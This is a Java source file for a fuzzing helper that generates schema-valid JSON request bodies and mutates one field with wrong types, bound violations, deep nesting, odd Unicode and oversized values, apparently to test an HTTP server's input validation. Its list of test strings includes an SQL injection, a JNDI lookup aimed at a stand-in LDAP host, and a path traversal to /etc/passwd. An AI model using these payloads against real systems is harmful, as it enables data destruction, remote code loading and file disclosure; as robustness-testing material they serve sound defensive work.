package dev.stampede.http.server;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ContainerNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Makes bodies that a schema of the served document allows, and changes one place of them. */
final class MutatedBody {
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    /** Texts that stand for what no tree can have; with their quotes. */
    private static final String DEEP = "@deep@";

    private static final String LONG_NUMBER = "@number@";
    private static final String HALF_A_PAIR = "@half@";

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\nb",
            "\u202Egro.elpmaxe",
            "\uFEFFx",
            "\uD83D\uDE00".repeat(40),
            "e\u0301".repeat(30),
            "'; DROP TABLE operation; --",
            "${jndi:ldap://x.example/a}",
            "../../etc/passwd",
            HALF_A_PAIR);

    private final JsonNode schemas;
    private final Random random;

    /** Where a value is: its container, its name or index there, and its schema, which may be unknown. */
    private record Place(ContainerNode<?> in, String name, int index, JsonNode schema) {
        void set(JsonNode value) {
            if (in instanceof ObjectNode object) {
                object.set(name, value);
            } else {
                ((ArrayNode) in).set(index, value);
            }
        }

        JsonNode get() {
            return in instanceof ObjectNode ? in.get(name) : in.get(index);
        }

        void remove() {
            if (in instanceof ObjectNode object) {
                object.remove(name);
            } else {
                ((ArrayNode) in).remove(index);
            }
        }
    }

    private enum Mutation {
        TYPE,
        BOUND,
        MISSING,
        EXTRA,
        NULL,
        DEEP,
        UNICODE,
        LONG
    }

    /** @param api the served document */
    MutatedBody(JsonNode api, Random random) {
        this.schemas = api.at("/components/schemas");
        this.random = random;
    }

    /** A body as the schema describes it. What the schema does not say, the gateway may refuse. */
    JsonNode valid(JsonNode schema) {
        JsonNode described = resolved(schema);
        if (described.has("enum")) {
            return described
                    .get("enum")
                    .get(random.nextInt(described.get("enum").size()));
        }
        if (described.has("example") && random.nextInt(4) > 0 && !described.has("properties")) {
            return described.get("example").deepCopy();
        }
        return switch (described.path("type").asText("object")) {
            case "integer", "number" -> {
                long least = described.path("minimum").asLong(0);
                long most = Math.min(described.path("maximum").asLong(Long.MAX_VALUE), least + 1000);
                yield JSON.numberNode(least + random.nextLong(most - least + 1));
            }
            case "boolean" -> JSON.booleanNode(random.nextBoolean());
            case "string" ->
                described.has("example")
                        ? described.get("example")
                        : JSON.textNode("t"
                                .repeat(Math.max(1, described.path("minLength").asInt(1))));
            case "array" -> {
                ArrayNode array = JSON.arrayNode();
                int size = 1
                        + random.nextInt(Math.min(3, described.path("maxItems").asInt(3)));
                for (int i = 0; i < size; i++) {
                    array.add(valid(described.path("items")));
                }
                yield array;
            }
            default -> {
                ObjectNode object = JSON.objectNode();
                described.path("properties").properties().forEach(field -> {
                    boolean required = described.path("required").toString().contains('"' + field.getKey() + '"');
                    if (required || random.nextInt(3) == 0) {
                        object.set(field.getKey(), valid(field.getValue()));
                    }
                });
                yield object;
            }
        };
    }

    /** The text of the body with one change. */
    String mutated(JsonNode valid, JsonNode schema) {
        JsonNode body = valid.deepCopy();
        List<Place> places = new ArrayList<>();
        collect(body, schema, places);
        Mutation mutation = Mutation.values()[random.nextInt(Mutation.values().length)];
        if (places.isEmpty() || mutation == Mutation.EXTRA) {
            List<ObjectNode> objects = new ArrayList<>();
            objects(body, objects);
            if (!objects.isEmpty()) {
                objects.get(random.nextInt(objects.size())).set("x" + random.nextInt(3), JSON.numberNode(1));
            }
            return text(body);
        }
        Place place = places.get(random.nextInt(places.size()));
        switch (mutation) {
            case TYPE -> place.set(ofAnotherType(place.get()));
            case BOUND -> place.set(outOfBounds(place.get(), resolved(place.schema)));
            case MISSING -> place.remove();
            case NULL -> place.set(JSON.nullNode());
            case DEEP -> place.set(JSON.textNode(DEEP));
            case UNICODE -> place.set(JSON.textNode(TEXTS.get(random.nextInt(TEXTS.size()))));
            case LONG ->
                place.set(
                        random.nextBoolean()
                                ? JSON.textNode(LONG_NUMBER)
                                : JSON.textNode("x".repeat(1 + random.nextInt(60_000))));
            case EXTRA -> throw new IllegalStateException("was done above");
        }
        return text(body);
    }

    private String text(JsonNode body) {
        int depth = 1 + random.nextInt(10_000);
        return body.toString()
                .replace('"' + DEEP + '"', "[".repeat(depth) + "]".repeat(depth))
                .replace('"' + LONG_NUMBER + '"', "9".repeat(1 + random.nextInt(500)))
                .replace(HALF_A_PAIR, "\\ud800");
    }

    private JsonNode resolved(JsonNode schema) {
        if (schema.has("$ref")) {
            return resolved(schemas.path(schema.get("$ref").asText().replaceFirst(".*/", "")));
        }
        return schema.has("allOf") ? resolved(schema.get("allOf").get(0)) : schema;
    }

    private void collect(JsonNode value, JsonNode schema, List<Place> places) {
        JsonNode described = resolved(schema);
        if (value instanceof ObjectNode object) {
            object.properties().forEach(field -> {
                JsonNode of = described.path("properties").path(field.getKey());
                places.add(new Place(object, field.getKey(), 0, of));
                collect(field.getValue(), of, places);
            });
        } else if (value instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                places.add(new Place(array, "", i, described.path("items")));
                collect(array.get(i), described.path("items"), places);
            }
        }
    }

    private static void objects(JsonNode value, List<ObjectNode> objects) {
        if (value instanceof ObjectNode object) {
            objects.add(object);
        }
        value.forEach(each -> objects(each, objects));
    }

    private JsonNode ofAnotherType(JsonNode value) {
        JsonNode copy = value.deepCopy();
        List<JsonNode> others = List.of(
                JSON.textNode("5"),
                JSON.numberNode(5),
                JSON.numberNode(0.5),
                JSON.booleanNode(true),
                JSON.arrayNode().add(copy),
                JSON.objectNode().set("a", copy));
        return others.get(random.nextInt(others.size()));
    }

    /** One below the least, or one above the most. */
    private JsonNode outOfBounds(JsonNode value, JsonNode schema) {
        boolean above = random.nextBoolean();
        return switch (schema.path("type").asText()) {
            case "integer", "number" -> {
                JsonNode bound = schema.path(above ? "maximum" : "minimum");
                BigInteger of = bound.isNumber() ? bound.bigIntegerValue() : BigInteger.valueOf(Long.MAX_VALUE);
                yield JSON.numberNode(above ? of.add(BigInteger.ONE) : of.subtract(BigInteger.ONE));
            }
            case "string" ->
                JSON.textNode(above ? "a".repeat(schema.path("maxLength").asInt(255) + 1) : "");
            case "array" -> {
                ArrayNode array = JSON.arrayNode();
                for (int i = 0;
                        above
                                && value.size() > 0
                                && i <= schema.path("maxItems").asInt(500);
                        i++) {
                    array.add(value.get(0));
                }
                yield array;
            }
            case "object" -> {
                ObjectNode object = JSON.objectNode();
                for (int i = 0; above && i <= schema.path("maxProperties").asInt(100); i++) {
                    object.put("p" + i, i);
                }
                yield object;
            }
            default -> JSON.numberNode(-1);
        };
    }
}
